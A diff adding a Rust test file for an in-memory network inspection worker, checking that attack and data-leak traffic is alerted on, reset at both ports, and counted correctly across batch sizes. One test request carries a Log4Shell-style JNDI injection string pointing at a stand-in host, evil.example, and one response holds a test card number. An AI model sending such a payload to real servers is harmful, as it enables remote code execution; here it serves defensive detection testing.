@@ -1,0 +1,174 @@
+//! A worker over queues in memory: what goes in comes out, is dropped for a reason, or cuts its connection.
+
+use std::collections::BTreeMap;
+use std::net::SocketAddr;
+use std::sync::Arc;
+
+use dataplane::event::Event;
+use dataplane::flow::Direction;
+use dataplane::pipeline::Counters;
+use dataplane::policy::Settings;
+use dataplane::verdict::DropReason;
+use dlp_patterns::{RuleSet, default_packs};
+
+use super::*;
+use crate::config::EventTypes;
+use crate::eve::EveFormat;
+use crate::port::MemoryQueue;
+use crate::sample::Conversation;
+
+const CONVERSATIONS: u16 = 100;
+/// Of three conversations one is harmless, one begins with an attack, and in one the answer is a leak.
+const KINDS: u16 = 3;
+const ATTACK: u16 = 1;
+const LEAK: u16 = 2;
+const FIRST_CLIENT_PORT: u16 = 40_000;
+/// Where an untagged frame of IPv4 without options has its TCP header.
+const TCP_OFFSET: usize = 14 + 20;
+
+/// Event lines by flow identifier: the order between flows is none of a worker's promises.
+#[derive(Debug, Default)]
+struct Lines(BTreeMap<u64, Vec<u8>>);
+
+impl EventSink for Lines {
+    fn emit(&mut self, event: Event<'_>) {
+        let flow = match event {
+            Event::Alert(alert) => alert.flow.id,
+            Event::Drop(dropped) => dropped.flow.map_or(0, |flow| flow.id),
+            Event::Flow(end) => end.flow.id,
+            Event::Http(end) => end.flow.id,
+            Event::Anomaly(anomaly) => anomaly.flow.id,
+        };
+        let lines = self.0.entry(flow).or_default();
+        EveFormat::new(EventTypes::ALL, Vec::new()).event(&event, lines);
+    }
+}
+
+/// The frames of one conversation, and the port that each arrives at.
+fn conversation(index: u16) -> Vec<(Port, Vec<u8>)> {
+    let request: &[u8] = match index % KINDS {
+        ATTACK => b"GET /?x=${jndi:ldap://evil.example/a} HTTP/1.1\r\nHost: www.example\r\n\r\n",
+        _ => b"GET /page HTTP/1.1\r\nHost: www.example\r\n\r\n",
+    };
+    let response: &[u8] = match index % KINDS {
+        LEAK => b"HTTP/1.1 200 OK\r\nContent-Length: 19\r\n\r\n4111 1111 1111 1111",
+        _ => b"HTTP/1.1 200 OK\r\nContent-Length: 13\r\n\r\nHello, world.",
+    };
+    let client = SocketAddr::from(([192, 0, 2, 1], FIRST_CLIENT_PORT + index));
+    let server = SocketAddr::from(([198, 51, 100, 1], 80));
+    let mut both = Conversation::new([client, server], &[]);
+    both.open();
+    both.send(Direction::ToServer, request);
+    both.acknowledge(Direction::ToClient);
+    both.send(Direction::ToClient, response);
+    both.acknowledge(Direction::ToServer);
+    both.close();
+    let arrival = |frame: &Vec<u8>| match port_at(frame, TCP_OFFSET) {
+        Some(port) if port >= FIRST_CLIENT_PORT => Port::Inside,
+        _ => Port::Outside,
+    };
+    both.into_frames().into_iter().map(|frame| (arrival(&frame), frame)).collect()
+}
+
+fn port_at(frame: &[u8], offset: usize) -> Option<u16> {
+    frame.get(offset..)?.first_chunk().map(|port| u16::from_be_bytes(*port))
+}
+
+/// What a worker did with all conversations, step by step side by side, so that batches are full.
+struct Outcome {
+    frames: u64,
+    counters: Counters,
+    lines: Lines,
+    left: [Vec<Vec<u8>>; 2],
+}
+
+fn run(batch_frames: usize, refuse: usize) -> Outcome {
+    let rules = Arc::new(RuleSet::compile(&default_packs()).expect("the packs compile"));
+    let settings = Settings { flows_max: 1024, ..Settings::default() };
+    let queue = MemoryQueue { batch_frames, refuse, ..MemoryQueue::default() };
+    let mut worker = Worker::new(queue, Pipeline::new(settings, rules), Lines::default(), 0);
+    let conversations: Vec<_> = (0..CONVERSATIONS).map(conversation).collect();
+    let mut frames = 0;
+    for step in 0..conversations[0].len() {
+        for (port, frame) in conversations.iter().map(|frames| &frames[step]) {
+            worker.io().arriving[*port as usize].push_back(frame.clone());
+            frames += 1;
+        }
+        while worker.turn(1_000_000_000 + step as u64) > 0 {}
+        let Counters { frames_in, forwarded, .. } = *worker.pipeline().counters();
+        let dropped = worker.pipeline().counters().dropped_total();
+        assert_eq!((frames_in, forwarded + dropped), (frames, frames), "the books balance at every step");
+    }
+    let left = std::mem::take(&mut worker.io().left);
+    let (pipeline, lines) = worker.finish(2_000_000_000);
+    Outcome { frames, counters: *pipeline.counters(), lines, left }
+}
+
+/// What left a port, by client port and in order: the order between connections is none of a worker's promises.
+fn by_connection(left: &[Vec<u8>]) -> BTreeMap<u16, Vec<&[u8]>> {
+    let mut connections = BTreeMap::<u16, Vec<&[u8]>>::new();
+    for frame in left {
+        let ports = [TCP_OFFSET, TCP_OFFSET + 2].map(|offset| port_at(frame, offset));
+        let client = ports.into_iter().flatten().max().expect("a TCP frame");
+        connections.entry(client).or_default().push(frame);
+    }
+    connections
+}
+
+fn is_reset(frame: &[u8]) -> bool {
+    frame.get(TCP_OFFSET + 13).is_some_and(|flags| flags & 0x04 != 0)
+}
+
+#[test]
+fn one_by_one_is_as_in_batches() {
+    let single = run(1, 0);
+    assert!(single.counters.alerts > 0 && single.counters.resets > 0, "{:?}", single.counters);
+    for batch_frames in [7, 64] {
+        let batched = run(batch_frames, 0);
+        assert_eq!(single.counters, batched.counters);
+        assert_eq!(single.lines.0, batched.lines.0);
+        for port in Port::BOTH {
+            let [single, batched] = [&single, &batched].map(|outcome| &outcome.left[port as usize]);
+            assert_eq!(by_connection(single), by_connection(batched), "{port:?}, batches of {batch_frames}");
+        }
+    }
+}
+
+#[test]
+fn no_frame_is_lost_or_made_up() {
+    let Outcome { frames, counters, left, .. } = run(64, 0);
+    assert_eq!(counters.frames_in, frames);
+    assert_eq!(counters.forwarded + counters.dropped_total(), frames);
+    let out = left.iter().map(Vec::len).sum::<usize>() as u64;
+    assert_eq!(out, counters.forwarded + counters.injected);
+    let sent: Vec<Vec<u8>> = (0..CONVERSATIONS).flat_map(conversation).map(|(_, frame)| frame).collect();
+    let strange = left.iter().flatten().find(|frame| !is_reset(frame) && !sent.contains(frame));
+    assert_eq!(strange, None, "what is no reset came in as it leaves");
+}
+
+#[test]
+fn a_connection_that_is_cut_is_reset_at_both_ports() {
+    let Outcome { counters, left, .. } = run(64, 0);
+    for index in 0..CONVERSATIONS {
+        let cut = index % KINDS != 0;
+        for port in Port::BOTH {
+            let connections = by_connection(&left[port as usize]);
+            let frames = &connections[&(FIRST_CLIENT_PORT + index)];
+            let resets = frames.iter().filter(|frame| is_reset(frame)).count();
+            assert_eq!(resets, usize::from(cut), "conversation {index} at {port:?}");
+            assert!(!cut || frames.last().is_some_and(|frame| is_reset(frame)), "nothing follows a reset");
+        }
+    }
+    assert_eq!((counters.injected, counters.injections_failed), (2 * counters.resets, 0));
+}
+
+#[test]
+fn what_finds_no_room_is_dropped_as_egress() {
+    let Outcome { frames, counters, left, .. } = run(64, 3);
+    let egress = counters.dropped[DropReason::Egress as usize];
+    // Each of the ten steps is two batches, and of each more than three frames are to be forwarded.
+    assert_eq!(egress, 10 * 2 * 3);
+    assert_eq!(counters.forwarded + counters.dropped_total(), frames);
+    let forwarded = left.iter().flatten().filter(|frame| !is_reset(frame)).count() as u64;
+    assert_eq!(forwarded, counters.forwarded, "what was counted as forwarded left");
+}
